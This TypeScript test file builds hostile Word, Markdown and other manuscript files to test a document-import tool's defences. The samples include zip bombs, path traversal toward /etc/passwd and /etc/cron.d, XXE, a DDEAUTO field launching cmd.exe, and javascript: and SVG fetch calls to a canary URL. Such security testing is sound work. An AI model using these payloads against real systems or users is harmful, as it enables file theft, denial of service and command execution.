import { readdir, readFile, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { drawing } from '../../../test/kit/pictures.js'
import { paragraph, picture, run, type WordParts, wordFile } from '../../../test/kit/word.js'
import { article } from './attack.js'
import type { Aim } from './canary.js'
import type { Place, ProgramAttack } from './programs.js'

const usual = [0, 1]
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** Imports the files of the folder, and builds what came of it. */
async function importAll(place: Place, { builds = true } = {}): Promise<string[]> {
  await place.bulletin('import', '.', '-o', 'issue', '--section', '要闻')
  if (builds && (await stat(join(place.folder, 'issue')).catch(() => undefined)))
    await place.bulletin('build', 'issue', '--out-dir', place.out, '--format', 'pdf,docx,html')
  return []
}

/** A Word file that is imported, and what becomes of it built. */
const word = (
  name: string,
  bytes: (aim: Aim) => Promise<Uint8Array> | Uint8Array,
  codes: readonly number[] = usual,
): ProgramAttack => ({
  name: `Word：${name}`,
  codes,
  async attack(place) {
    await place.write({ '稿.docx': await bytes(place.aim) })
    return importAll(place)
  },
})

/** A Word file with other parts in place of its own, or beside them. */
const changed = (given: WordParts, others: Record<string, string | Uint8Array>): Uint8Array => {
  const parts = unzipSync(wordFile(given))
  const bytes = Object.entries(others).map(([name, part]) => [
    name,
    typeof part === 'string' ? strToU8(part) : part,
  ])
  return zipSync({ ...parts, ...Object.fromEntries(bytes) })
}

const title = paragraph('一个题目', '<w:jc w:val="center"/>')
const plain = { body: title + paragraph('正文。') }

/** The main part with another text in front of its root element, or in its body. */
const main = (prolog: string, body: string) => {
  const whole = new TextDecoder().decode(unzipSync(wordFile({ body }))['word/document.xml'])
  return changed(plain, { 'word/document.xml': whole.replace('?>', `?>${prolog}`) })
}

const relations = (inner: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`
const outward = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}" TargetMode="External"/>`

const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>字</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

/** A zip whose directory says less than its data hold. */
function lying(): Uint8Array {
  const bytes = zipSync({
    ...unzipSync(wordFile(plain)),
    'word/styles.xml': new Uint8Array(60e6).fill(32),
  })
  const view = Buffer.from(bytes)
  for (let at = view.indexOf('PK\x01\x02'); at >= 0; at = view.indexOf('PK\x01\x02', at + 4))
    if (view.readUInt32LE(at + 24) === 60e6) view.writeUInt32LE(1000, at + 24)
  return view
}

/** Many entries that share the data of one: 2,000 times 5 MB. */
function overlapping(): Uint8Array {
  const inner = zipSync({ 'word/media/a.png': new Uint8Array(5e6) })
  const end = Buffer.from(inner).lastIndexOf('PK\x05\x06')
  const directory = Buffer.from(inner).subarray(Buffer.from(inner).indexOf('PK\x01\x02'), end)
  const copies = Array.from({ length: 2000 }, () => directory)
  const tail = Buffer.from(inner.subarray(end))
  tail.writeUInt16LE(2000, 8)
  tail.writeUInt16LE(2000, 10)
  tail.writeUInt32LE(directory.length * 2000, 12)
  return Buffer.concat([inner.subarray(0, end - directory.length), ...copies, tail])
}

/** Word files, and other manuscripts, that attack whoever imports them. */
export const wordAttacks: readonly ProgramAttack[] = [
  word('压缩包炸弹：一个部件 95 MB', () =>
    changed(plain, { 'word/styles.xml': new Uint8Array(95e6).fill(32) }),
  ),
  word('压缩包炸弹：几百个部件，每个不大', () =>
    changed(
      plain,
      Object.fromEntries(
        Array.from({ length: 450 }, (_, n) => [`word/h${n}.xml`, new Uint8Array(900e3).fill(32)]),
      ),
    ),
  ),
  word('压缩包炸弹：六万个空的部件', () =>
    changed(
      plain,
      Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [`x/${n}`, new Uint8Array()])),
    ),
  ),
  word('压缩包炸弹：目录写的长度是假的', lying),
  word('压缩包炸弹：几千个部件合用一段', overlapping),
  word('压缩包套压缩包', () => changed(plain, { 'word/media/a.png': wordFile(plain) })),
  word('部件名 ../、绝对、反斜杠', ({ secret }) =>
    changed(
      { ...plain, body: plain.body + paragraph(picture('evil')) },
      {
        '../../../outside/x.xml': `<a>${secret.slice(0, 3)}</a>`,
        '/etc/cron.d/x.xml': '<a/>',
        '..\\..\\x.png': 'x',
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="evil" Type="${office}/image" Target="../../../../outside/x.png"/>`,
        ),
      },
    ),
  ),
  word('关系指向 ../../../etc/passwd', ({ way }) =>
    changed(
      { ...plain, body: plain.body + paragraph(picture('a')) + paragraph(picture('b')) },
      {
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="a" Type="${office}/image" Target="../../../../../../etc/passwd"/><Relationship Id="b" Type="${office}/image" Target="../../${way}/secret.png"/><Relationship Id="c" Type="${office}/styles" Target="/../../../etc/passwd"/>`,
        ),
      },
    ),
  ),
  word('外部的关系：图片、模板、OLE、子文档、框架、页眉', ({ url, outside }) =>
    changed(
      {
        body:
          plain.body +
          paragraph(picture('r1').replace('r:embed', 'r:link')) +
          paragraph(picture('r2')) +
          '<w:altChunk r:id="r3"/><w:subDoc r:id="r4"/>' +
          paragraph(
            '<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="r5"/></w:object></w:r>',
          ),
      },
      {
        'word/_rels/document.xml.rels': relations(
          outward('r1', 'image', url) +
            outward('r2', 'image', `file://${outside}/secret.png`) +
            outward('r3', 'aFChunk', url) +
            outward('r4', 'subDocument', `file://${outside}/secret.txt`) +
            outward('r5', 'oleObject', url) +
            outward('r6', 'styles', url) +
            outward('r7', 'header', url),
        ),
        'word/_rels/settings.xml.rels': relations(outward('t', 'attachedTemplate', url)),
      },
    ),
  ),
  word('链接 javascript:、file:、\\\\主机', ({ url, outside }) =>
    wordFile({
      body:
        plain.body +
        ['a', 'b', 'c', 'd']
          .map((id) => paragraph(`<w:hyperlink r:id="${id}">${run(`字${id}`)}</w:hyperlink>`))
          .join(''),
      links: {
        a: `javascript:fetch('${url}')`,
        b: `file://${outside}/secret.txt`,
        c: '\\\\127.0.0.1\\share',
        d: `data:text/html,&lt;script>1&lt;/script>`,
      },
    }),
  ),
  word('域 DDE、INCLUDETEXT、INCLUDEPICTURE、MACROBUTTON', ({ url, outside }) =>
    wordFile({
      body:
        plain.body +
        [
          'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
          `INCLUDETEXT "${outside}/secret.txt"`,
          `INCLUDEPICTURE "${url}" \\d`,
          'MACROBUTTON Evil',
          `HYPERLINK "javascript:fetch('${url}')"`,
        ]
          .map((code) => field(code.replaceAll('"', '&quot;')))
          .join(''),
    }),
  ),
  {
    name: 'Word：带宏的 .docm、.dotx',
    codes: usual,
    async attack(place) {
      const bytes = changed(plain, {
        'word/vbaProject.bin': new Uint8Array(5000),
        'word/vbaData.xml': '<a/>',
        'word/activeX/activeX1.bin': new Uint8Array(99),
        'customUI/customUI.xml': '<customUI onLoad="x"/>',
      })
      await place.write({ '甲.docm': bytes, '乙.dotx': bytes })
      return importAll(place)
    },
  },
  word('实体炸弹', () =>
    main(
      `<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghij'].map((one, i) => `<!ENTITY ${one} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`,
      `${title}<w:p><w:r><w:t>&j;</w:t></w:r></w:p>`,
    ),
  ),
  word('外部实体（XXE）', ({ outside }) =>
    main(
      `<!DOCTYPE w [<!ENTITY x SYSTEM "file://${outside}/secret.txt">]>`,
      `${title}<w:p><w:r><w:t>&x;</w:t></w:r></w:p>`,
    ),
  ),
  word('XML 十万层', () =>
    main(
      '',
      plain.body +
        '<w:sdt><w:sdtContent>'.repeat(100_000) +
        '</w:sdtContent></w:sdt>'.repeat(100_000),
    ),
  ),
  word('表格套表格一百二十层', () =>
    wordFile({
      body:
        plain.body +
        '<w:tbl><w:tr><w:tc>'.repeat(120) +
        paragraph('字') +
        '</w:tc></w:tr></w:tbl>'.repeat(120),
    }),
  ),
  word('表格 gridSpan 十亿、gridBefore 十亿', () =>
    wordFile({
      body:
        plain.body +
        `<w:tbl><w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph('字')}</w:tc></w:tr></w:tbl>`,
    }),
  ),
  word('编号从十亿起、级别 -1、自己引用自己的样式', () =>
    wordFile({
      body:
        plain.body +
        paragraph(
          '字',
          '<w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="-1"/><w:numId w:val="1"/></w:numPr>',
        ).repeat(3),
      styles:
        '<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style><w:style w:type="paragraph" w:styleId="__proto__"><w:name w:val="constructor"/></w:style>',
      numbering:
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="999999999999"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%2%9、"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
    }),
  ),
  word('一段三百万字', () => wordFile({ body: plain.body + paragraph('字'.repeat(3e6)) }), [0, 1]),
  word('正文里的 <script>、{{…}}、---、Markdown', ({ url }) =>
    wordFile({
      body: [
        '题目：<script>x</script>',
        `<script>fetch('${url}')</script><img src="${url}" onerror="1">`,
        '---',
        'title: 假',
        `![图](${url}) [字](javascript:1) {{constructor}} <!-- -->`,
        '```',
        '[^1]: 假',
        '$\\input{/etc/passwd}$',
      ]
        .map((text) => paragraph(run(text)))
        .join(''),
    }),
  ),
  {
    name: 'Word：题目和文件名里的 ../、换行、引号',
    codes: usual,
    async attack(place) {
      const titles = [
        '../../../outside/甲',
        '/etc/乙',
        'a"\nsection: 假\n---',
        '..',
        'CON',
        '题\u001b[2J\u202e',
        '长'.repeat(300),
      ]
      for (const [index, title] of titles.entries()) {
        const center = '<w:jc w:val="center"/>'
        const bold = '<w:b/><w:sz w:val="44"/>'
        const body = paragraph(run(title, bold), center) + paragraph('正文。')
        await place.write({ [`${index}.docx`]: wordFile({ body }) })
      }
      await importAll(place)
      const made = await readdir(join(place.folder, 'issue'))
      const texts = await Promise.all(
        made
          .filter((one) => one.endsWith('.md'))
          .map((one) => readFile(join(place.folder, 'issue', one), 'utf8')),
      )
      return texts.flatMap((text) => (/^section: 假/m.test(text) ? ['写进了别的键'] : []))
    },
  },
  {
    name: 'Word：SVG 图片带脚本和外部引用',
    codes: usual,
    async attack(place) {
      const { url, outside } = place.aim
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="fetch('${url}')"><image href="${url}"/><image href="file://${outside}/secret.png"/><rect width="300" height="200"/></svg>`
      await place.write({
        '稿.docx': wordFile({
          body: plain.body + paragraph(picture('a')),
          media: { 'a.svg': strToU8(svg) },
        }),
      })
      return importAll(place)
    },
  },
  {
    name: '导入：images 是指向外面的符号链接',
    codes: [0, 1, 2, 3],
    async attack(place) {
      await place.write(
        {
          '稿.docx': wordFile({
            body: plain.body + paragraph(picture('a')),
            media: { 'a.png': await drawing(300, 200) },
          }),
          'issue/01.md': article('题', '正文。'),
        },
        { 'issue/images': place.aim.outside },
      )
      await place.bulletin('import', '稿.docx', '-o', 'issue')
      await place.bulletin('import', '稿.docx', '-o', 'issue', '--force')
      return []
    },
  },
  {
    name: '导入：文件夹里的稿件是指向外面的链接',
    codes: [0, 1, 2],
    async attack(place) {
      const { outside } = place.aim
      await place.write(
        { '甲.md': '# 题\n\n正文。\n' },
        {
          '乙.md': `${outside}/secret.md`,
          '丙.txt': `${outside}/secret.txt`,
          丁: outside,
          '戊.docx': '/dev/zero',
        },
      )
      return importAll(place, { builds: false })
    },
  },
  {
    name: '导入：Markdown、文本稿件的图片 ../、file:、http:、链接',
    codes: [0, 1],
    async attack(place) {
      const { url, outside, way } = place.aim
      const text = [
        `![图](${way}/secret.png)`,
        `![图](file://${outside}/secret.png)`,
        `![图](${outside}/secret.svg)`,
        `![图](${url})`,
        '![图](link.png)',
        `![图](${way.replaceAll('.', '%2e')}/secret.svg)`,
      ].join('\n\n')
      await place.write(
        { '甲.md': `# 题\n\n${text}\n`, '乙.txt': `题\n\n${text}\n` },
        { 'link.png': `${outside}/secret.png` },
      )
      return importAll(place, { builds: false })
    },
  },
  {
    name: '导入：不是 Word 的文件改名为 .docx',
    codes: [1],
    async attack(place) {
      await place.write({
        'a.docx': '#!/bin/sh\ntouch ran\n',
        'b.docx': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0, 0, 0, 0, 0, 0]),
        'c.docx': zipSync({}),
        'd.docx': zipSync({ 'word/document.xml': strToU8('<w:document/>') }),
        'e.docx': new Uint8Array(),
        'f.rtf': '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass x}}}',
      })
      return importAll(place, { builds: false })
    },
  },
]
